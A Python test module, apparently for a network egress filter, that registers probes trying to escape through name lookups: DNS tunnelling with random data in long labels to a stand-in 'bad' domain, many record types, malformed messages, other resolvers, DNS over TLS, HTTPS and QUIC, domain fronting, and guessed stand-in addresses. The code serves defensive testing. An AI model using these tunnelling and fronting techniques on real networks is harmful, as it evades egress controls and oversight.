"""Names as a way out: tunnels through DNS, other name servers, encrypted ones."""

from __future__ import annotations

import errno
import os
import socket
import struct

from .attempt import World, attempt, register
from .words import (
    Refusal,
    connect_to,
    datagram,
    hello,
    lookup,
    question,
    record,
    request,
    rest,
    say,
    server_name,
    tunnel,
    vector,
)

_GROUP = "lookups"


def _name(world: World) -> bytes:
    return f"{world.mark}.{world.bad}".encode()


def _answered(answer: bytes) -> None:
    if answer[3] & 15:
        raise Refusal(errno.ENOENT, f"answer {answer[3] & 15}")


@attempt(_GROUP, "a name that no rule names is looked up")
def lookup_other(world: World) -> None:
    lookup(world, _name(world))


@attempt(_GROUP, "the same by the C library", "getaddrinfo(3)", control=False)
def lookup_by_libc(world: World) -> None:
    socket.getaddrinfo(_name(world).decode(), 80)


@attempt(_GROUP, "data in long labels", "DNS tunnelling; srt#88")
def lookup_long(world: World) -> None:
    data = ".".join((os.urandom(30).hex(), os.urandom(30).hex(), os.urandom(20).hex()))
    lookup(world, data.encode() + b"." + _name(world))


@attempt(_GROUP, "a thousand names", "DNS tunnelling; srt#88")
def lookup_thousand(world: World) -> None:
    for number in range(1000):
        try:
            datagram(world, question(b"%d." % number + _name(world)), world.server)
        except TimeoutError:
            raise Refusal(errno.ETIMEDOUT, "no answer") from None


for _kind, _number in (
    ("TXT", 16), ("MX", 15), ("CNAME", 5), ("NULL", 10), ("SRV", 33), ("NS", 2), ("SOA", 6), ("PTR", 12), ("ANY", 255),
    ("AXFR", 252), ("HTTPS", 65), ("KEY", 25), ("private", 65399),
):  # fmt: skip
    register(
        f"lookup_{_kind}",
        _GROUP,
        f"a record of the kind {_kind}",
        lambda world, number=_number: _answered(datagram(world, question(_name(world), number), world.server)),  # type: ignore[misc]
        "DNS tunnelling",
    )


@attempt(_GROUP, "a lookup over TCP", "RFC 7766")
def lookup_tcp(world: World) -> None:
    message = question(_name(world))
    with socket.create_connection((world.server, 53), 2) as channel:
        channel.sendall(vector(2, message))
        _answered(channel.recv(4096)[2:])


@attempt(_GROUP, "data behind the question, as an option", "RFC 6891")
def lookup_option(world: World) -> None:
    data = struct.pack("!HH", 65001, len(world.mark)) + world.mark.encode()
    option = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(data)) + data
    _answered(datagram(world, question(world.good.encode(), more=option, extra=1), world.server))


@attempt(_GROUP, "a change of the zone", "RFC 2136", control=False)
def lookup_update(world: World) -> None:
    _answered(datagram(world, question(_name(world), flags=0x2800), world.server))


@attempt(_GROUP, "two questions in one message", "RFC 9619", control=False)
def lookup_two(world: World) -> None:
    first, second = question(world.good.encode()), question(_name(world))
    _answered(datagram(world, first[:4] + b"\0\2" + first[6:] + second[12:], world.server))


@attempt(_GROUP, "a name that is written with a pointer", "RFC 1035 4.1.4", control=False)
def lookup_pointer(world: World) -> None:
    head = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0)
    labels = b"".join(vector(1, label) for label in _name(world).split(b"."))
    _answered(datagram(world, head + b"\xc0\x14" + struct.pack("!HH", 1, 1) + bytes(2) + labels + b"\0", world.server))


@attempt(_GROUP, "a dot within a label", "RFC 1035", control=False)
def lookup_dot(world: World) -> None:
    head = struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0)
    labels = vector(1, _name(world)) + vector(1, world.good.encode())
    _answered(datagram(world, head + labels + b"\0" + struct.pack("!HH", 1, 1), world.server))


@attempt(_GROUP, "another name server, by UDP", "RFC 1035")
def server_udp(world: World) -> None:
    lookup(world, _name(world), server=world.address)


@attempt(_GROUP, "another name server, by UDP over IPv6", "RFC 1035")
def server_udp6(world: World) -> None:
    lookup(world, _name(world), server=world.address6)


@attempt(_GROUP, "another name server, by TCP", "RFC 7766")
def server_tcp(world: World) -> None:
    with socket.create_connection((world.address, 53), 2) as channel:
        channel.sendall(vector(2, question(_name(world))))
        rest(channel)


@attempt(_GROUP, "a name server of the host's loopback", "systemd-resolved")
def server_loopback(world: World) -> None:
    lookup(world, _name(world), server=world.loopback)


@attempt(_GROUP, "DNS over TLS", "RFC 7858")
def over_tls(world: World) -> None:
    with socket.create_connection((world.address, 853), 2) as channel:
        say(channel, record(hello(world.mark)))


@attempt(_GROUP, "DNS over TLS through the proxy", "RFC 7858")
def over_tls_proxied(world: World) -> None:
    say(tunnel(world, world.bad.encode() + b":853"), record(hello(world.mark)))


@attempt(_GROUP, "DNS over HTTPS at a host that is not allowed", "RFC 8484")
def over_https(world: World) -> None:
    say(tunnel(world, b"dns.google:443"), record(hello(world.mark, server_name(b"dns.google"))))


@attempt(_GROUP, "DNS over HTTPS by an address", "RFC 8484")
def over_https_address(world: World) -> None:
    say(tunnel(world, world.address.encode() + b":443"), record(hello(world.mark)))


@attempt(_GROUP, "DNS over HTTPS, TLS for a name server through a host that is allowed", "RFC 8484; domain fronting")
def over_https_fronted(world: World) -> None:
    say(tunnel(world, world.good.encode() + b":443"), record(hello(world.mark, server_name(b"dns.google"))))


@attempt(_GROUP, "DNS over QUIC", "RFC 9250")
def over_quic(world: World) -> None:
    datagram(world, world.mark.encode(), world.address, 853)


@attempt(_GROUP, "names of the neighbourhood (mDNS)", "RFC 6762")
def multicast_dns(world: World) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(question(world.mark.encode() + b".local"), ("224.0.0.251", 5353))


@attempt(_GROUP, "names of the neighbourhood (LLMNR)", "RFC 4795")
def link_local_names(world: World) -> None:
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as channel:
        channel.sendto(question(world.mark.encode()), ("ff02::1:3", 5355))


@attempt("stand-ins", "an address of the gate's own that was never given out", control=False)
def stand_in_guessed(world: World) -> None:
    connect_to(world, "198.18.77.7", 80)


@attempt("stand-ins", "the same in IPv6", control=False)
def stand_in_guessed6(world: World) -> None:
    connect_to(world, "fd6d:7564:726f:6f6d::4d07", 80)


@attempt("stand-ins", "the address of a name, and the one after it", control=False)
def stand_in_next(world: World) -> None:
    where = socket.inet_aton(lookup(world, world.good.encode()))
    connect_to(world, socket.inet_ntoa((int.from_bytes(where, "big") + 1).to_bytes(4, "big")), 80)


@attempt("stand-ins", "the address of a name as an address, through the proxy", control=False)
def stand_in_proxied(world: World) -> None:
    where = lookup(world, world.good.encode()).encode()
    say(tunnel(world, where + b":80"), request(where, world.mark))


@attempt("stand-ins", "as many names as there are addresses, so that one stands for another", control=False)
def stand_in_exhausted(world: World) -> None:
    first = lookup(world, world.good.encode())
    for number in range(3000):
        lookup(world, b"n%d." % number + world.good.encode())
    say(socket.create_connection((first, 80), 2), request(world.bad.encode(), world.mark))
